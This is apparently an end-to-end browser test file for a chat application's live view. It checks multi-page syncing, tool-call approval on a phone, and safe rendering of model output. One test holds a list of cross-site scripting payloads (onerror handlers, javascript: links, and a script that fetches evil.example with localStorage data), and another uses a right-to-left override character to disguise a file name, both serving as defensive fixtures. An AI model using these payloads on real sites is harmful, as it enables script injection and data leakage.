/** The live view in a real browser: pages that see the same thing, a model that means harm, an answer from a phone. */
import { gzipSync } from "node:zlib";
import { calls, reasoning, reply, text, unauthorized } from "@dispatch/provider-openai/testing";
import type { Browser, Page } from "playwright-core";
import { describe, expect, it } from "vitest";
import { noBrowser } from "../support/pages/browser.ts";
import { inBrowser } from "../support/pages/in-browser.ts";
import { logIn, say } from "../support/pages/live-view.ts";
import type { Stage } from "../support/stage.ts";

let stage: Stage;
let browser: Browser;

/** What a person reads as the model's words. */
const answers = (page: Page): Promise<string[]> => page.locator(".timeline .markdown").allInnerTexts();
const ended = (page: Page, word: string) => page.locator(".end-text", { hasText: word }).last().waitFor();

describe.skipIf(noBrowser())("the live view", () => {
  inBrowser(
    (given) => {
      ({ stage, browser } = given);
    },
    () => ({ args: [] }),
  );

  it("is small, and loads nothing from elsewhere", async () => {
    const page = await (await fetch(stage.server.url)).text();
    const names = [...page.matchAll(/"(\/assets\/[^"]+)"/g)].map(([, name = ""]) => name);
    expect(names).toHaveLength(3);
    expect(page).not.toMatch(/https?:\/\//);
    let bytes = gzipSync(page).length;
    for (const name of names) {
      const answer = await fetch(stage.server.url + name);
      expect(answer.status).toBe(200);
      bytes += gzipSync(Buffer.from(await answer.arrayBuffer()), { level: 9 }).length;
    }
    expect(bytes).toBeLessThanOrEqual(150 * 1024);
  });

  it("shows a page that was opened in mid-answer the same; it stops the turn when the first is gone", async () => {
    const long = Array.from({ length: 120 }, (_, n) => `**word${n}** 😀`).join(" ");
    stage.provider.script(reply(reasoning("First I think."), text(long, { chunks: 120, everyMs: 20 })));
    stage.provider.script(reply(text("never ending ".repeat(4_000), { chunks: 4_000, everyMs: 50 })));
    const a = await logIn(browser, stage);
    await say(a, "Begin");
    await a.page.getByText("word5", { exact: true }).waitFor();
    const hash = new URL(a.page.url()).hash;
    expect(hash).toMatch(/^#\/c\/\w+$/);
    const b = await logIn(browser, stage, { hash });
    await b.page.getByText("word6", { exact: true }).waitFor();
    await Promise.all([ended(a.page, "Done"), ended(b.page, "Done")]);
    expect(await answers(b.page)).toEqual([long.replaceAll("**", "")]);
    expect(await answers(a.page)).toEqual(await answers(b.page));
    expect(await b.page.locator(".bubble").allInnerTexts()).toEqual(["Begin"]);
    expect(await b.page.locator(".reasoning-text").first().isVisible()).toBe(false);

    await say(a, "Go on");
    await b.page.getByText("never ending").first().waitFor();
    await a.context.close();
    await b.page.getByRole("button", { name: "Stop" }).click();
    await ended(b.page, "Stopped");
    expect(await b.page.getByRole("button", { name: "Stop" }).count()).toBe(0);
    const row = (await stage.api.json<{ items: { status: string }[] }>("GET", "/conversations")).items[0];
    expect(row).toMatchObject({ status: "idle", lastTurn: { reason: "aborted" } });
    expect([...a.faults, ...b.faults]).toEqual([]);
    await b.context.close();
  });

  it("draws what a hostile model says as text: no script, no request, no dialog", async () => {
    const hostile = [
      "<img src=x onerror=alert(1)>",
      `<script>fetch("https://evil.example/?"+localStorage.length)</script>`,
      "<svg/onload=alert(2)><iframe src=javascript:alert(3)></iframe>",
      "[click](javascript:alert(4)) [me](data:text/html,<script>alert(5)</script>) [too](java&#10;script:alert(6))",
      "![pixel](https://evil.example/pixel.png) [ok](https://example.com/)",
      '<a href="javascript:alert(7)">raw</a>',
      "```html\n<img src=y onerror=alert(8)>\n```",
      "<style>*{background:url(https://evil.example/css)}</style> the end",
    ].join("\n\n");
    stage.provider.script(reply(text(hostile, { chunks: 60, everyMs: 5 })));
    const viewer = await logIn(browser, stage);
    await say(viewer, "<img src=z onerror=alert(9)> <b>me</b>");
    await ended(viewer.page, "Done");
    const { page } = viewer;
    for (const label of ["click", "me", "too"])
      await page.locator(".no-link", { hasText: label }).first().click();
    const odd = ".timeline :is(img, script, iframe, style, form, object, embed, link, [onerror], [onload])";
    expect(await page.locator(odd).count()).toBe(0);
    const links = await page.locator(".timeline a").all();
    expect(
      await Promise.all(
        links.map(async (link) => [await link.getAttribute("href"), await link.getAttribute("rel")]),
      ),
    ).toEqual([
      ["https://evil.example/pixel.png", "noopener noreferrer nofollow"],
      ["https://example.com/", "noopener noreferrer nofollow"],
    ]);
    expect(await page.locator(".bubble").allInnerTexts()).toEqual(["<img src=z onerror=alert(9)> <b>me</b>"]);
    expect((await answers(page)).join()).toContain("<img src=x onerror=alert(1)>");
    const { origin } = new URL(page.url());
    expect(viewer.asked.filter(({ url }) => !url.startsWith(origin))).toEqual([]);
    expect(viewer.faults).toEqual([]);
    await viewer.context.close();
  });

  it("shows what no page could draw as the text it is", async () => {
    stage.provider.script(reply(text(`${"> ".repeat(5_000)}${"a".repeat(30_000)}@b`, { chunks: 5 })));
    const viewer = await logIn(browser, stage);
    await say(viewer, "Go deep");
    await ended(viewer.page, "Done");
    expect((await answers(viewer.page)).join()).toContain("aaaa@b");
    expect(viewer.faults).toEqual([]);
    await viewer.context.close();
  });

  it("asks on a phone, shows the call as it is, and goes on when it is allowed", async () => {
    const argv = ["echo", "safe\u202egnp.exe", "two words"];
    stage.provider.script(reply(text("May I?"), calls({ name: "run_command", args: { argv } })));
    stage.provider.script(reply(text("It was allowed.")));
    const desk = await logIn(browser, stage);
    await say(desk, "Run it");
    await desk.page.getByRole("button", { name: "Allow" }).waitFor();
    const phone = await logIn(browser, stage, { phone: true, hash: new URL(desk.page.url()).hash });
    const allow = phone.page.getByRole("button", { name: "Allow" });
    await allow.waitFor();
    const [asked = ""] = await phone.page.locator(".approval").allInnerTexts();
    expect(asked).toContain("U+202E");
    expect(asked).not.toContain("\u202e");
    expect(asked).toContain('"two words"');
    expect(await phone.page.evaluate("document.documentElement.scrollWidth - innerWidth")).toBe(0);
    await allow.tap();
    await Promise.all([ended(phone.page, "Done"), ended(desk.page, "Done")]);
    expect((await answers(desk.page)).at(-1)).toBe("It was allowed.");
    expect(await desk.page.locator(".approval").count()).toBe(0);
    expect(await desk.page.locator(".tool.ok").count()).toBe(1);
    expect([...desk.faults, ...phone.faults]).toEqual([]);
    await Promise.all([desk.context.close(), phone.context.close()]);
  });

  it("says in the list, in the title and on a phone's button that somebody waits for an answer", async () => {
    stage.provider.script(reply(calls({ name: "run_command", args: { argv: ["echo", "hi"] } })));
    stage.provider.script(reply(text("Thank you.")));
    const [desk, phone] = [await logIn(browser, stage), await logIn(browser, stage, { phone: true })];
    const begun = { message: "Ask me", conversationId: "asking", cwd: stage.cwd };
    await stage.api.request("POST", "/chat", begun, { prefer: "respond-async" });
    const row = desk.page.locator(".row", { hasText: "Ask me" });
    await row.getByText("asks you").waitFor();
    expect(await row.getByRole("img").getAttribute("aria-label")).toBe("waits for an answer");
    expect(await desk.page.locator(".row").first().textContent()).toContain("Ask me");
    expect(await desk.page.title()).toMatch(/^\(1\) /);
    // Also to a page that comes when a hundred others have been at work since.
    for (let n = 0; n < 101; n++)
      await stage.api.json("POST", "/conversations", { title: `Since then ${n}` });
    const later = await logIn(browser, stage);
    await later.page.locator(".row", { hasText: "Ask me" }).getByText("asks you").waitFor();
    await later.context.close();
    const menu = phone.page.getByRole("button", { name: "Conversations: 1 waiting for an answer" });
    await menu.tap();
    await phone.page.locator(".row", { hasText: "Ask me" }).tap();
    await phone.page.getByRole("button", { name: "Conversations", exact: true }).waitFor();
    await phone.page.getByRole("button", { name: "Allow" }).tap();
    await row.getByText("asks you").waitFor({ state: "detached" });
    await ended(phone.page, "Done");
    expect(await desk.page.title()).not.toContain("(");
    expect([...desk.faults, ...phone.faults]).toEqual([]);
    await Promise.all([desk.context.close(), phone.context.close()]);
  });

  it("renames, closes and deletes, and another page sees it in its list", async () => {
    stage.provider.script(reply(text("Hello.")));
    const [one, two] = [await logIn(browser, stage), await logIn(browser, stage)];
    await say(one, "First words");
    await two.page.locator(".row", { hasText: "First words" }).waitFor();
    await one.page.getByRole("button", { name: "First words" }).click();
    await one.page.getByLabel("Title").fill("A better name");
    await one.page.getByLabel("Title").press("Enter");
    const row = two.page.locator(".row", { hasText: "A better name" });
    await row.waitFor();
    await one.page.getByRole("button", { name: "Close the conversation" }).click();
    await row.waitFor({ state: "detached" });
    await one.page.getByRole("button", { name: "Delete the conversation" }).click();
    await one.page.getByRole("button", { name: "Delete it?" }).click();
    await one.page.getByRole("heading", { name: "New conversation" }).waitFor();
    await one.page.locator(".row", { hasText: "A better name" }).waitFor({ state: "detached" });
    expect([...one.faults, ...two.faults]).toEqual([]);
    await Promise.all([one.context.close(), two.context.close()]);
  });

  it("says how a turn failed, also to a page that comes later", async () => {
    stage.provider.script(unauthorized());
    const page = await logIn(browser, stage);
    await say(page, "Fail, please");
    await page.page.locator(".turn-error").waitFor();
    const said = await page.page.locator(".turn-error").allInnerTexts();
    const later = await logIn(browser, stage, { hash: new URL(page.page.url()).hash });
    await later.page.locator(".turn-error").waitFor();
    expect(await later.page.locator(".turn-error").allInnerTexts()).toEqual(said);
    await Promise.all([page.context.close(), later.context.close()]);
  });
});
